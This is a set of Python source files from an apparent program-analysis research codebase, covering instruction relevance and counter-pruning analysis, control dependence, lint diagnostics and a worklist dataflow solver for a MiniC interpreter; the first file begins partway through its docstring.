  **counter-elidable edges** with accounting-only ghosts, so both
  backends execute pruned plans;
* the threaded backend (:mod:`repro.interp.compile`) widens
  superinstruction fusion across the **fusible** set — instructions
  proven event-free whose plan edges are absent or pure folded
  ``CounterAdd`` runs — and batches each region's counter effect into
  one precomputed aggregate add per executed path;
* reporting (``repro analyze --relevance``, Table 1's PrunedCnt and
  Table 5's elision columns, ``repro profile``) attributes the win.

**Counter-elidable edges.**  A counter value is observable only at an
event boundary: every :class:`SyscallEvent` and :class:`BarrierEvent`
snapshots the thread's *whole* counter stack.  A ``CounterAdd`` on edge
``src -> dst`` is therefore unobservable exactly when no event can
occur between crossing the edge and the death of the stack entry it
mutates (the entry is popped by a scoped return, overwritten never —
LoopSync resets are themselves barrier events — or discarded at thread
end).  :func:`prunable_counter_edges` computes this as a backwards
"observation tail" fixpoint: an instruction observes if it is a
syscall, an indirect call, a direct call into ``may_reach_syscall``, or
a return from a frame whose counter-scope survives it; an edge observes
if it carries a barrier.  On top of that proof obligation, pruning is
restricted to edges whose endpoints Algorithm 2 classified elidable, so
the pruned set stays inside the classification the soundness oracle
reasons about.

The dynamic soundness contract: a causality detection can only ever
fire at a *relevant* syscall site.  :class:`ModuleRelevance` exposes
``relevant_site`` so the dual-execution engine can check every
detection against the static classification and report a soundness
violation if one lands on an instruction the analysis called elidable.
"""

from __future__ import annotations

from typing import Dict, FrozenSet, List, Optional, Set, Tuple

from repro.analysis.controldep import control_dependence
from repro.cfg.graph import function_digraph
from repro.instrument.plan import (
    CounterAdd,
    LoopSync,
    ModulePlan,
    fold_counter_adds,
)
from repro.ir import instructions as ins
from repro.ir.function import IRFunction, IRModule
from repro.ir.instructions import FuncRef
from repro.ir.ops import BINOP_FUNCS, UNOP_FUNCS
from repro.lang.intrinsics import PURE_BUILTINS

# Builtins that mutate their first argument in place.  ``pop`` is
# included on top of the taint baselines' MUTATING_BUILTINS set: it
# changes the list's future contents even though taint never enters.
_MUTATING_BUILTINS = frozenset({"push", "pop", "list_fill"})

# Builtins whose result can alias (share mutable structure with) one of
# their arguments; scalar/string results never do (strings are
# immutable MiniC values).
_ALIASING_BUILTINS = frozenset(
    {"push", "pop", "list_fill", "sort", "slice", "concat", "reverse"}
)


class RegionSummary:
    """One statically summarizable region: a connected set of fusible
    instructions whose counter/clock effect is a compile-time constant
    per executed path."""

    __slots__ = ("head", "size", "counter_delta", "action_count")

    def __init__(
        self, head: int, size: int, counter_delta: int, action_count: int
    ) -> None:
        self.head = head
        self.size = size
        self.counter_delta = counter_delta
        self.action_count = action_count

    def as_dict(self) -> Dict[str, int]:
        return {
            "head": self.head,
            "size": self.size,
            "counter_delta": self.counter_delta,
            "action_count": self.action_count,
        }

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return (
            f"RegionSummary(head={self.head}, size={self.size}, "
            f"counter_delta={self.counter_delta}, "
            f"action_count={self.action_count})"
        )


class FunctionRelevance:
    """Per-function classification of every instruction index."""

    __slots__ = (
        "name", "total", "relevant", "elidable", "fusible", "regions",
        "prunable_edges",
    )

    def __init__(
        self,
        name: str,
        total: int,
        relevant: FrozenSet[int],
        elidable: FrozenSet[int],
        fusible: FrozenSet[int],
        regions: Tuple[RegionSummary, ...],
        prunable_edges: Optional[Dict[Tuple[int, int], int]] = None,
    ) -> None:
        self.name = name
        self.total = total
        self.relevant = relevant
        self.elidable = elidable
        self.fusible = fusible
        self.regions = regions
        # Counter-elidable edges: (src, dst) -> number of CounterAdd
        # actions the instrumenter may prune there (proof: no event can
        # sample the mutated stack entry before it dies).
        self.prunable_edges = dict(prunable_edges or {})

    @property
    def summarizable_instructions(self) -> int:
        return sum(region.size for region in self.regions)

    @property
    def prunable_count(self) -> int:
        """Counter updates on this function's counter-elidable edges."""
        return sum(self.prunable_edges.values())

    def as_dict(self) -> Dict[str, object]:
        return {
            "function": self.name,
            "instructions": self.total,
            "relevant": len(self.relevant),
            "elidable": len(self.elidable),
            "fusible": len(self.fusible),
            "regions": [region.as_dict() for region in self.regions],
            "prunable_edges": [
                [src, dst, count]
                for (src, dst), count in sorted(self.prunable_edges.items())
            ],
        }


class ModuleRelevance:
    """Whole-module relevance classification plus region summaries."""

    __slots__ = ("functions", "relevant_syscalls")

    def __init__(
        self,
        functions: Dict[str, FunctionRelevance],
        relevant_syscalls: FrozenSet[Tuple[str, str]],
    ) -> None:
        self.functions = functions
        self.relevant_syscalls = relevant_syscalls

    @property
    def total_instructions(self) -> int:
        return sum(f.total for f in self.functions.values())

    @property
    def relevant_count(self) -> int:
        return sum(len(f.relevant) for f in self.functions.values())

    @property
    def elidable_count(self) -> int:
        return sum(len(f.elidable) for f in self.functions.values())

    @property
    def fusible_count(self) -> int:
        return sum(len(f.fusible) for f in self.functions.values())

    @property
    def region_count(self) -> int:
        return sum(len(f.regions) for f in self.functions.values())

    @property
    def summarizable_count(self) -> int:
        return sum(f.summarizable_instructions for f in self.functions.values())

    @property
    def prunable_count(self) -> int:
        """Total counter updates on counter-elidable edges, module-wide.

        Purely derived from the classification, so it is identical
        whether or not the instrumenter actually applied the pruning —
        Table 1's PrunedCnt column relies on that invariance.
        """
        return sum(f.prunable_count for f in self.functions.values())

    def relevant_site(self, function: str, syscall: str) -> bool:
        """True when a syscall *name* at *function* is classified
        sink-relevant; dynamic detections must only ever land here."""
        return (function, syscall) in self.relevant_syscalls

    def payload(self) -> Dict[str, object]:
        return {
            "instructions": self.total_instructions,
            "relevant": self.relevant_count,
            "elidable": self.elidable_count,
            "fusible": self.fusible_count,
            "regions": self.region_count,
            "summarizable": self.summarizable_count,
            "prunable_counter_updates": self.prunable_count,
            "functions": [
                self.functions[name].as_dict()
                for name in sorted(self.functions)
            ],
        }


class _UnionFind:
    """Flow-insensitive alias classes over the names of one function."""

    __slots__ = ("parent",)

    def __init__(self) -> None:
        self.parent: Dict[str, str] = {}

    def find(self, name: str) -> str:
        parent = self.parent
        root = name
        while parent.get(root, root) != root:
            root = parent[root]
        while parent.get(name, name) != root:
            parent[name], name = root, parent[name]
        return root

    def join(self, left: str, right: str) -> None:
        left_root, right_root = self.find(left), self.find(right)
        if left_root != right_root:
            self.parent[left_root] = right_root

    def members(self, name: str) -> List[str]:
        root = self.find(name)
        out = [root]
        out.extend(n for n in self.parent if n != root and self.find(n) == root)
        return out


def _build_aliases(function: IRFunction) -> _UnionFind:
    aliases = _UnionFind()
    for instr in function.instrs:
        kind = type(instr)
        if kind is ins.Move:
            aliases.join(instr.dst, instr.src)
        elif kind is ins.NewList:
            for item in instr.items:
                aliases.join(instr.dst, item)
        elif kind is ins.LoadIndex:
            # An extracted element may share structure with the base
            # (lists of lists); mutators of either affect both.
            aliases.join(instr.dst, instr.base)
        elif kind is ins.StoreIndex:
            aliases.join(instr.base, instr.src)
        elif kind is ins.CallBuiltin and instr.name in _ALIASING_BUILTINS:
            for arg in instr.args:
                aliases.join(instr.dst, arg)
    return aliases


def _address_taken(module: IRModule) -> FrozenSet[str]:
    taken: Set[str] = set()
    for value in module.global_values.values():
        if isinstance(value, FuncRef):
            taken.add(value.name)
    for function in module.functions.values():
        for instr in function.instrs:
            if type(instr) is ins.Const and isinstance(instr.value, FuncRef):
                taken.add(instr.value.name)
    return frozenset(name for name in taken if name in module.functions)


def _fusible_indices(
    function: IRFunction, plan: ModulePlan, global_names: FrozenSet[str]
) -> FrozenSet[int]:
    """Indices proven event-free with free-or-foldable plan edges.

    These are exactly the instructions the threaded backend may fuse
    into widened superinstruction regions: executing one can never
    yield an event, block, alter ``thread.status``, push or pop frames,
    or cross a barrier edge.  ``CJump`` joins the set here — the
    syntactic barrier the relevance analysis removes — because a branch
    is event-free; only its plan edges need to stay foldable.
    """
    function_plan = plan.functions.get(function.name)
    if function_plan is None:
        return frozenset()
    fusible: Set[int] = set()
    for index, instr in enumerate(function.instrs):
        kind = type(instr)
        if kind is ins.Jump or kind is ins.Const or kind is ins.Move:
            pass
        elif kind is ins.Binop:
            if instr.op not in BINOP_FUNCS:
                continue
        elif kind is ins.Unop:
            if instr.op not in UNOP_FUNCS:
                continue
        elif kind is ins.Nop:
            if index == function.exit:
                continue
        elif kind is ins.CallBuiltin:
            if (
                instr.name not in PURE_BUILTINS
                or instr.dst in global_names
                or any(arg in global_names for arg in instr.args)
            ):
                continue
        elif kind is ins.LoadIndex or kind is ins.StoreIndex:
            pass
        elif kind is ins.NewList or kind is ins.CJump:
            pass
        else:
            continue
        edges_ok = True
        for succ in function.successors(index):
            actions = function_plan.actions_for(index, succ)
            if actions and fold_counter_adds(actions) is None:
                edges_ok = False
                break
        if edges_ok:
            fusible.add(index)
    return frozenset(fusible)


def _regions(
    function: IRFunction, plan: ModulePlan, fusible: FrozenSet[int]
) -> Tuple[RegionSummary, ...]:
    """Connected components of the fusible subgraph, with the summed
    counter effect of their internal plan edges."""
    function_plan = plan.functions.get(function.name)
    if function_plan is None or not fusible:
        return ()
    neighbours: Dict[int, Set[int]] = {index: set() for index in fusible}
    for index in fusible:
        for succ in function.successors(index):
            if succ in fusible:
                neighbours[index].add(succ)
                neighbours[succ].add(index)
    seen: Set[int] = set()
    regions: List[RegionSummary] = []
    for index in sorted(fusible):
        if index in seen:
            continue
        stack, members = [index], set()
        while stack:
            node = stack.pop()
            if node in members:
                continue
            members.add(node)
            stack.extend(neighbours[node] - members)
        seen |= members
        if len(members) < 2:
            continue
        delta = count = 0
        for src in members:
            for dst in function.successors(src):
                if dst not in members:
                    continue
                actions = function_plan.actions_for(src, dst)
                if actions:
                    edge_delta, edge_count = fold_counter_adds(actions)
                    delta += edge_delta
                    count += edge_count
        regions.append(RegionSummary(min(members), len(members), delta, count))
    return tuple(regions)


def prunable_counter_edges(
    module: IRModule,
    plan: ModulePlan,
    relevance: Optional["ModuleRelevance"] = None,
) -> Dict[str, Dict[Tuple[int, int], int]]:
    """Counter-elidable edges per function: ``{fname: {(src, dst): n}}``.

    An edge qualifies when its plan actions are pure ``CounterAdd`` runs
    and no event (syscall or barrier — the only points that snapshot the
    counter stack) can occur after crossing it while the mutated stack
    entry is still alive.  Aliveness ends at a *scoped* return (the
    entry is popped) or at thread end (``main`` and thread-entry
    functions return into nothing); an unscoped return continues under
    the caller's entry, so the caller's observation tail is inherited
    through a ``ret_observes`` interprocedural fixpoint.

    The result is a pure function of (module, plan) — it does not
    depend on whether pruning is enabled — so reporting built on it is
    identical across both relevance settings.
    """
    functions = module.functions
    may_reach = plan.may_reach_syscall
    graphs = {name: function_digraph(fn) for name, fn in functions.items()}

    # Direct call sites per callee, with their scoped-ness: a scoped
    # call's counter entry dies at the return, so it never propagates
    # the caller's tail.  Indirect calls are always scoped.
    callsites: Dict[str, List[Tuple[str, int]]] = {name: [] for name in functions}
    for gname, fn in functions.items():
        scoped = plan.functions[gname].scoped_calls
        for index, instr in enumerate(fn.instrs):
            if (
                type(instr) is ins.CallDirect
                and instr.func in callsites
                and index not in scoped
            ):
                callsites[instr.func].append((gname, index))

    ret_observes: Dict[str, bool] = {name: False for name in functions}
    observes: Dict[str, Dict[int, bool]] = {}

    def recompute(fname: str) -> None:
        fn = functions[fname]
        graph = graphs[fname]
        fplan = plan.functions[fname]
        instrs = fn.instrs

        def instr_observes(index: int) -> bool:
            instr = instrs[index]
            kind = type(instr)
            if kind is ins.Syscall or kind is ins.CallIndirect:
                return True
            if kind is ins.CallDirect:
                return instr.func in may_reach
            if kind is ins.Ret:
                return ret_observes[fname]
            return False

        def barrier_edge(src: int, dst: int) -> bool:
            actions = fplan.actions.get((src, dst))
            return bool(actions) and any(
                type(action) is LoopSync for action in actions
            )

        tail = {node: False for node in graph.nodes}
        changed = True
        while changed:
            changed = False
            for node in graph.nodes:
                if tail[node]:
                    continue
                succs = graph.succs(node)
                # A terminal node (the exit nop every ret funnels into)
                # is the function's return: it observes exactly when an
                # unscoped caller's tail does.
                if (
                    instr_observes(node)
                    or (not succs and ret_observes[fname])
                    or any(
                        barrier_edge(node, succ) or tail[succ]
                        for succ in succs
                    )
                ):
                    tail[node] = True
                    changed = True
        observes[fname] = tail

    for name in functions:
        recompute(name)
    changed = True
    while changed:
        changed = False
        for fname in functions:
            if ret_observes[fname]:
                continue
            for gname, index in callsites[fname]:
                # The call falls through; conservatively observe when
                # the successor is unknown.
                if observes[gname].get(index + 1, True):
                    ret_observes[fname] = True
                    changed = True
                    for name in functions:
                        recompute(name)
                    break

    if relevance is None:
        relevance = getattr(plan, "relevance", None)
    prunable: Dict[str, Dict[Tuple[int, int], int]] = {}
    for fname, fplan in plan.functions.items():
        fn_relevance = relevance.functions.get(fname) if relevance else None
        edges: Dict[Tuple[int, int], int] = {}
        for (src, dst), actions in fplan.actions.items():
            if not all(type(action) is CounterAdd for action in actions):
                continue  # barriers and loop bookkeeping stay untouched
            if observes[fname].get(dst, True):
                continue  # an event can still sample the entry
            if fn_relevance is not None and (
                src not in fn_relevance.elidable
                or dst not in fn_relevance.elidable
            ):
                continue  # stay inside Algorithm 2's elidable set
            edges[(src, dst)] = len(actions)
        if edges:
            prunable[fname] = edges
    return prunable


def compute_relevance(
    module: IRModule, plan: Optional[ModulePlan] = None
) -> ModuleRelevance:
    """Classify every instruction of *module* as sink-relevant or
    elidable; with a *plan*, also compute fusible regions."""
    global_names = frozenset(module.global_values)
    functions = module.functions
    address_taken = _address_taken(module)

    cdep: Dict[str, Dict[int, Set[int]]] = {}
    aliases: Dict[str, _UnionFind] = {}
    defs_by: Dict[str, Dict[str, List[int]]] = {}
    mutators_by: Dict[str, Dict[str, List[int]]] = {}
    arg_pass: Dict[str, Dict[str, List[Tuple[int, Optional[str], int]]]] = {}
    direct_sites: Dict[str, List[Tuple[str, int]]] = {}
    indirect_sites: List[Tuple[str, int]] = []
    ret_sites: Dict[str, List[int]] = {}

    for fname, function in functions.items():
        cdep[fname] = control_dependence(function)
        aliases[fname] = _build_aliases(function)
        fn_defs: Dict[str, List[int]] = {}
        fn_mutators: Dict[str, List[int]] = {}
        fn_args: Dict[str, List[Tuple[int, Optional[str], int]]] = {}
        fn_rets: List[int] = []
        for index, instr in enumerate(function.instrs):
            dst = instr.defs()
            if dst is not None:
                fn_defs.setdefault(dst, []).append(index)
            kind = type(instr)
            if kind is ins.StoreIndex:
                fn_mutators.setdefault(instr.base, []).append(index)
            elif kind is ins.CallBuiltin:
                if instr.name in _MUTATING_BUILTINS and instr.args:
                    fn_mutators.setdefault(instr.args[0], []).append(index)
            elif kind is ins.CallDirect:
                direct_sites.setdefault(instr.func, []).append((fname, index))
                for position, arg in enumerate(instr.args):
                    fn_args.setdefault(arg, []).append(
                        (index, instr.func, position)
                    )
            elif kind is ins.CallIndirect:
                indirect_sites.append((fname, index))
                for position, arg in enumerate(instr.args):
                    fn_args.setdefault(arg, []).append((index, None, position))
            elif kind is ins.Ret:
                fn_rets.append(index)
        defs_by[fname] = fn_defs
        mutators_by[fname] = fn_mutators
        arg_pass[fname] = fn_args
        ret_sites[fname] = fn_rets

    relevant: Dict[str, Set[int]] = {name: set() for name in functions}
    demanded: Set[Tuple[str, str]] = set()
    demanded_globals: Set[str] = set()
    returns_demanded: Set[str] = set()
    pending: List[Tuple] = []

    def demand_param(callee: str, position: int) -> None:
        params = functions[callee].params
        if position < len(params):
            pending.append(("demand", callee, params[position]))

    def on_function_observable(fname: str) -> None:
        # A call that can reach observable work is itself relevant.
        for caller, index in direct_sites.get(fname, ()):
            pending.append(("mark", caller, index))
        if fname in address_taken:
            for caller, index in indirect_sites:
                pending.append(("mark", caller, index))

    def process_mark(fname: str, index: int) -> None:
        marked = relevant[fname]
        if index in marked:
            return
        was_empty = not marked
        marked.add(index)
        if was_empty:
            on_function_observable(fname)
        function = functions[fname]
        instr = function.instrs[index]
        for use in instr.uses():
            pending.append(("demand", fname, use))
        for branch in cdep[fname].get(index, ()):
            pending.append(("mark", fname, branch))

    def process_demand(fname: str, name: str) -> None:
        root = aliases[fname].find(name)
        key = (fname, root)
        if key in demanded:
            return
        demanded.add(key)
        function = functions[fname]
        for member in aliases[fname].members(name):
            if member in global_names and member not in demanded_globals:
                demanded_globals.add(member)
                for other in functions:
                    pending.append(("demand", other, member))
            for index in defs_by[fname].get(member, ()):
                pending.append(("mark", fname, index))
                instr = function.instrs[index]
                kind = type(instr)
                if kind is ins.CallDirect and instr.dst == member:
                    pending.append(("rets", instr.func))
                elif kind is ins.CallIndirect and instr.dst == member:
                    for target in address_taken:
                        pending.append(("rets", target))
            for index in mutators_by[fname].get(member, ()):
                pending.append(("mark", fname, index))
            # A demanded value passed to a callee may be mutated (or
            # observed) there: the call and the callee's view of the
            # parameter are relevant.
            for index, callee, position in arg_pass[fname].get(member, ()):
                pending.append(("mark", fname, index))
                if callee is None:
                    for target in address_taken:
                        demand_param(target, position)
                elif callee in functions:
                    demand_param(callee, position)

    def process_rets(fname: str) -> None:
        if fname in returns_demanded or fname not in functions:
            return
        returns_demanded.add(fname)
        for index in ret_sites[fname]:
            pending.append(("mark", fname, index))

    # Roots: every syscall site is an outcome sink or alignment point —
    # output/network/FS effects, aborts, scheduling, sink_observe.
    for fname, function in functions.items():
        for index in function.syscall_indices():
            pending.append(("mark", fname, index))

    while pending:
        item = pending.pop()
        if item[0] == "mark":
            process_mark(item[1], item[2])
        elif item[0] == "demand":
            process_demand(item[1], item[2])
        else:
            process_rets(item[1])

    module_functions: Dict[str, FunctionRelevance] = {}
    relevant_syscalls: Set[Tuple[str, str]] = set()
    for fname, function in functions.items():
        marked = frozenset(relevant[fname])
        elidable = frozenset(range(len(function.instrs))) - marked
        if plan is not None:
            fusible = _fusible_indices(function, plan, global_names)
            regions = _regions(function, plan, fusible)
        else:
            fusible = frozenset()
            regions = ()
        module_functions[fname] = FunctionRelevance(
            fname, len(function.instrs), marked, elidable, fusible, regions
        )
        for index in function.syscall_indices():
            if index in marked:
                relevant_syscalls.add((fname, function.instrs[index].name))
    result = ModuleRelevance(module_functions, frozenset(relevant_syscalls))
    if plan is not None:
        # Edge-level refinement: which counter updates the instrumenter
        # may prune.  Attached to the classification (not the plan) so
        # the counts are identical whether or not pruning is applied.
        for fname, edges in prunable_counter_edges(
            module, plan, relevance=result
        ).items():
            module_functions[fname].prunable_edges = dict(edges)
    return result
