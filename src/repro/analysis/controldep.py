"""Control dependence from postdominators (Ferrante–Ottenstein–Warren).

Node *n* is control dependent on branch *b* when *b* has a successor
*s* such that *n* postdominates *s* (or is *s*) but *n* does not
strictly postdominate *b*: taking one edge out of *b* commits the
execution to reaching *n*, taking another may avoid it.  This is
exactly the "not-taken path" information LDX's counterfactual scheme
observes dynamically — the static taint pass uses it to propagate
dependence through predicates, the blind spot of data-only tainting.

Computed with the standard walk: for every branch edge (b, s), climb
the immediate-postdominator tree from *s* up to (but excluding)
ipostdom(b), marking every visited node dependent on *b*.  Nodes inside
regions that cannot reach the function exit (infinite loops) have no
ipostdom; the walk then conservatively marks everything reachable from
the stuck node, keeping the over-approximation sound.
"""

from __future__ import annotations

from typing import Dict, Set

from repro.cfg.dominators import immediate_postdominators
from repro.cfg.graph import function_digraph
from repro.ir.function import IRFunction


def control_dependence(function: IRFunction) -> Dict[int, Set[int]]:
    """Map each instruction index to the branch indices it is directly
    control dependent on."""
    graph = function_digraph(function)
    ipostdom = immediate_postdominators(function)
    dependence: Dict[int, Set[int]] = {
        index: set() for index in range(len(function.instrs))
    }
    for branch in graph.nodes:
        successors = graph.succs(branch)
        if len(successors) < 2:
            continue
        join = ipostdom.get(branch)
        for successor in successors:
            runner = successor
            seen: Set[int] = set()
            while runner is not None and runner != join and runner not in seen:
                seen.add(runner)
                dependence[runner].add(branch)
                next_runner = ipostdom.get(runner)
                if next_runner is None and runner != function.exit:
                    # No path to exit from here (infinite-loop region):
                    # everything reachable may execute or not depending
                    # on this branch.
                    for node in graph.reachable_from(runner):
                        dependence[node].add(branch)
                    break
                runner = next_runner
    return dependence


def transitive_control_dependence(function: IRFunction) -> Dict[int, Set[int]]:
    """Closure of :func:`control_dependence`: all branches whose outcome
    may decide whether each instruction executes."""
    direct = control_dependence(function)
    closed: Dict[int, Set[int]] = {index: set(deps) for index, deps in direct.items()}
    changed = True
    while changed:
        changed = False
        for index, deps in closed.items():
            extra: Set[int] = set()
            for branch in deps:
                extra |= closed[branch]
            if not extra <= deps:
                deps |= extra
                changed = True
    return closed
