"""Diagnostics over one MiniC module, built on the dataflow instances.

Four families:

* ``never-read-var`` — a user variable (local or global) that is
  written but never read; dead state that instrumentation still pays
  counter updates for.
* ``maybe-uninit`` — a use that a hoisted-but-unassigned definition may
  reach (MiniC reads those as nil; almost always a latent bug since
  ``var`` declarations always carry initializers).
* ``unreachable`` — instructions no path from the function entry
  reaches (excluding the structural exit nop).
* ``race`` — a lockset-disjoint conflicting global access pair from
  :mod:`repro.analysis.lockset`.
* ``unused-write`` — a store whose value is overwritten before any
  read, to a variable that *is* read elsewhere and assigned more than
  once (warn-level: the computation is pure waste, and the
  instrumentation planner still pays counter updates for it).
* ``dead-store`` — any other pure computation whose result is never
  live (note-level: often benign staging of values).

Diagnostics carry a stable :meth:`Diagnostic.key` so CI can compare a
run against a checked-in baseline and fail only on *new* findings.
Keys avoid instruction indices on purpose — unrelated edits above a
finding must not churn the baseline — and use source lines plus subject
names instead.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Set

from repro.analysis.dataflow import (
    UNINIT_DEF,
    ReachingDefinitions,
    dead_stores,
    solve,
)
from repro.analysis.lockset import LocksetReport, analyze_locksets
from repro.cfg.callgraph import CallGraph
from repro.cfg.graph import function_digraph
from repro.ir import instructions as ins
from repro.ir.function import IRModule

ERROR = "error"
WARN = "warn"
NOTE = "note"

_SEVERITY_ORDER = {ERROR: 0, WARN: 1, NOTE: 2}


class Diagnostic:
    """One finding: where, what, how bad."""

    __slots__ = ("code", "severity", "function", "subject", "message", "line")

    def __init__(
        self,
        code: str,
        severity: str,
        function: str,
        subject: str,
        message: str,
        line: int = 0,
    ) -> None:
        self.code = code
        self.severity = severity
        self.function = function
        self.subject = subject
        self.message = message
        self.line = line

    def key(self) -> str:
        """Baseline identity: stable across unrelated edits."""
        return f"{self.code}:{self.function}:{self.subject}"

    def render(self) -> str:
        where = f"{self.function}:{self.line}" if self.line else self.function
        return f"[{self.severity}] {self.code} {where}: {self.message}"

    def sort_key(self):
        return (
            _SEVERITY_ORDER.get(self.severity, 3),
            self.code,
            self.function,
            self.line,
            self.subject,
        )


def _is_user_name(name: str) -> bool:
    return not name.startswith(".")


def lint_module(
    module: IRModule,
    callgraph: Optional[CallGraph] = None,
    lockset_report: Optional[LocksetReport] = None,
) -> List[Diagnostic]:
    """All diagnostics for *module*, deterministically ordered."""
    callgraph = callgraph if callgraph is not None else CallGraph(module)
    if lockset_report is None:
        lockset_report = analyze_locksets(module, callgraph)
    global_names = frozenset(module.global_values)
    diagnostics: List[Diagnostic] = []

    used_globals: Set[str] = set()
    for function in module.functions.values():
        for instr in function.instrs:
            used_globals.update(set(instr.uses()) & global_names)
    for name in sorted(global_names - used_globals):
        diagnostics.append(
            Diagnostic(
                "never-read-var",
                WARN,
                "<module>",
                name,
                f"global {name!r} is never read",
            )
        )

    for fn_name, function in module.functions.items():
        # -- never-read locals ------------------------------------------------
        written: Dict[str, int] = {}
        read: Set[str] = set(function.params)
        for instr in function.instrs:
            dst = instr.defs()
            if dst is not None and dst not in global_names and _is_user_name(dst):
                written.setdefault(dst, instr.line)
            read.update(instr.uses())
        for name in sorted(set(written) - read):
            diagnostics.append(
                Diagnostic(
                    "never-read-var",
                    WARN,
                    fn_name,
                    name,
                    f"local {name!r} is written but never read",
                    written[name],
                )
            )

        # -- unreachable code -------------------------------------------------
        graph = function_digraph(function)
        reachable = graph.reachable_from(function.entry)
        unreachable_lines: Set[int] = set()
        for index, instr in enumerate(function.instrs):
            if index in reachable or isinstance(instr, ins.Nop):
                continue
            unreachable_lines.add(instr.line)
        for line in sorted(unreachable_lines):
            diagnostics.append(
                Diagnostic(
                    "unreachable",
                    WARN,
                    fn_name,
                    f"line{line}",
                    "code is unreachable from the function entry",
                    line,
                )
            )

        # -- maybe-uninitialized uses ----------------------------------------
        problem = ReachingDefinitions(function, global_names)
        result = solve(problem, function)
        flagged_names: Set[str] = set()
        for index, instr in enumerate(function.instrs):
            if index not in reachable:
                continue
            for name in instr.uses():
                if name in global_names or not _is_user_name(name):
                    continue
                if name in flagged_names:
                    continue
                if UNINIT_DEF in problem.defs_reaching(result, index, name):
                    flagged_names.add(name)
                    diagnostics.append(
                        Diagnostic(
                            "maybe-uninit",
                            WARN,
                            fn_name,
                            name,
                            f"{name!r} may be read before assignment (nil)",
                            instr.line,
                        )
                    )

        # -- dead stores / unused writes --------------------------------------
        def_counts: Dict[str, int] = {}
        for instr in function.instrs:
            dst = instr.defs()
            if dst is not None and dst not in global_names and _is_user_name(dst):
                def_counts[dst] = def_counts.get(dst, 0) + 1
        dead_names: Set[str] = set()
        for index in dead_stores(function, global_names):
            if index not in reachable:
                continue  # already reported as unreachable
            instr = function.instrs[index]
            dst = instr.defs()
            if dst is None or not _is_user_name(dst) or dst in dead_names:
                continue
            if dst in (set(written) - read):
                continue  # already reported as never-read
            dead_names.add(dst)
            if dst in read and def_counts.get(dst, 0) >= 2:
                # The variable is live elsewhere: this particular
                # store is overwritten before any read ever sees it.
                diagnostics.append(
                    Diagnostic(
                        "unused-write",
                        WARN,
                        fn_name,
                        dst,
                        f"store to {dst!r} is overwritten before any read",
                        instr.line,
                    )
                )
                continue
            diagnostics.append(
                Diagnostic(
                    "dead-store",
                    NOTE,
                    fn_name,
                    dst,
                    f"value stored to {dst!r} here is never used",
                    instr.line,
                )
            )

    for race in lockset_report.races:
        diagnostics.append(
            Diagnostic(
                "race",
                WARN,
                "<module>",
                race.global_name,
                race.describe(),
            )
        )

    diagnostics.sort(key=Diagnostic.sort_key)
    return diagnostics
