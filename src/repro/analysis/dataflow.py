"""Generic worklist dataflow framework over the instruction-granular CFG.

A :class:`DataflowProblem` declares a direction (forward/backward), a
meet flavour (may = union, must = intersection), a boundary fact for the
start node, and a per-instruction transfer function over frozensets.
:func:`solve` runs the classic worklist fixpoint and returns the fact
before and after every instruction (in execution order, regardless of
the analysis direction).

Facts are frozensets of hashable elements.  Must-problems start every
non-boundary node at TOP (the universal set), represented by ``None``:
meeting TOP with anything yields the other operand, and a node still at
TOP when the fixpoint settles is unreachable along the analysis
direction — :meth:`DataflowResult.before` then reports ``None``.

Two classic instances live here because every client needs them:
reaching definitions (forward/may; feeds the def-use annotations, the
maybe-uninitialized lint and the taint pass's intraprocedural core) and
live variables (backward/may; feeds the never-read-variable lint).
"""

from __future__ import annotations

from collections import deque
from typing import Dict, FrozenSet, Iterable, List, Optional, Tuple

from repro.ir import instructions as ins
from repro.ir.function import IRFunction

FORWARD = "forward"
BACKWARD = "backward"
MAY = "may"
MUST = "must"

# Synthetic definition sites for reaching definitions.
PARAM_DEF = -1  # function parameters, bound at entry
GLOBAL_DEF = -2  # module globals, initialized before main
UNINIT_DEF = -3  # hoisted-but-unassigned local (reads as nil)

Fact = FrozenSet


class DataflowProblem:
    """One dataflow analysis: direction, meet, boundary, transfer."""

    direction = FORWARD
    kind = MAY

    def boundary(self) -> Fact:
        """The fact entering the start node (entry for forward
        problems, exit for backward ones)."""
        return frozenset()

    def transfer(self, index: int, instr: ins.Instr, fact: Fact) -> Fact:
        """The fact after *instr* given the fact before it (in the
        analysis direction)."""
        return fact


class DataflowResult:
    """Solved facts, exposed in execution order."""

    def __init__(
        self,
        direction: str,
        inputs: Dict[int, Optional[Fact]],
        outputs: Dict[int, Optional[Fact]],
    ) -> None:
        self._direction = direction
        self._inputs = inputs
        self._outputs = outputs

    def before(self, index: int) -> Optional[Fact]:
        """Fact holding immediately before instruction *index* executes.
        ``None`` marks a node a must-problem never reached."""
        if self._direction == FORWARD:
            return self._inputs[index]
        return self._outputs[index]

    def after(self, index: int) -> Optional[Fact]:
        """Fact holding immediately after instruction *index* executes."""
        if self._direction == FORWARD:
            return self._outputs[index]
        return self._inputs[index]


def solve(problem: DataflowProblem, function: IRFunction) -> DataflowResult:
    """Run the worklist fixpoint of *problem* over *function*."""
    size = len(function.instrs)
    succs: Dict[int, Tuple[int, ...]] = {
        index: function.successors(index) for index in range(size)
    }
    preds = function.predecessor_map()
    if problem.direction == FORWARD:
        flow_in, flow_out = preds, succs
        start = function.entry
        order: Iterable[int] = range(size)
    else:
        flow_in, flow_out = succs, preds
        start = function.exit
        order = range(size - 1, -1, -1)

    may = problem.kind == MAY
    boundary = problem.boundary()
    # None encodes TOP for must-problems; may-problems bottom out at the
    # empty set and never see None.
    inputs: Dict[int, Optional[Fact]] = {
        index: (frozenset() if may else None) for index in range(size)
    }
    outputs: Dict[int, Optional[Fact]] = dict(inputs)
    inputs[start] = boundary
    outputs[start] = problem.transfer(start, function.instrs[start], boundary)

    pending = deque(order)
    queued = set(pending)
    while pending:
        index = pending.popleft()
        queued.discard(index)
        if index == start:
            in_fact: Optional[Fact] = boundary
        else:
            neighbor_facts = [
                outputs[n] for n in flow_in[index] if outputs[n] is not None
            ]
            if may:
                merged: Fact = frozenset()
                for fact in neighbor_facts:
                    merged |= fact
                in_fact = merged
            else:
                if not neighbor_facts:
                    in_fact = None  # still TOP: unreached so far
                else:
                    merged = neighbor_facts[0]
                    for fact in neighbor_facts[1:]:
                        merged &= fact
                    in_fact = merged
        inputs[index] = in_fact
        if in_fact is None:
            out_fact: Optional[Fact] = None
        else:
            out_fact = problem.transfer(index, function.instrs[index], in_fact)
        if out_fact != outputs[index]:
            outputs[index] = out_fact
            for succ in flow_out[index]:
                if succ not in queued:
                    pending.append(succ)
                    queued.add(succ)
    return DataflowResult(problem.direction, inputs, outputs)


